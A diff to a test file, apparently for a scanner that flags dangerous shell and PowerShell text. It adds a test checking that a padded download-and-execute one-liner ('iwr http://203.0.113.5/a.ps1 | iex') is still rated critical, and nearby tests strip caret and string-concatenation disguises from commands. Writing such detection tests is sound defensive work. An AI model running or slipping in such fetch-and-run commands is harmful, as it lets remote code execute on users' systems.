@@ -116,6 +116,13 @@ def test_lines_keep_their_numbers_over_continuations() -> None:
     assert [(hit.rule, hit.line) for hit in check(text).hits] == [("pipe-shady", 5)]
 
 
+@pytest.mark.parametrize(
+    "padding", ["$a = 1; " * 2_000, "$a = '" + "x" * 9_000 + "'; ", "iwr https://data.example/a -o a\n" * 900]
+)
+def test_nothing_before_it_hides_a_statement(padding: str) -> None:
+    assert found(f"{padding}iwr http://203.0.113.5/a.ps1 | iex")["pipe-shady"] == "critical"
+
+
 def test_disguise_is_taken_off() -> None:
     assert plain("c^md /c d^el x") == "cmd /c del x"
     assert plain("('Down'+'load')") == "('Download')"
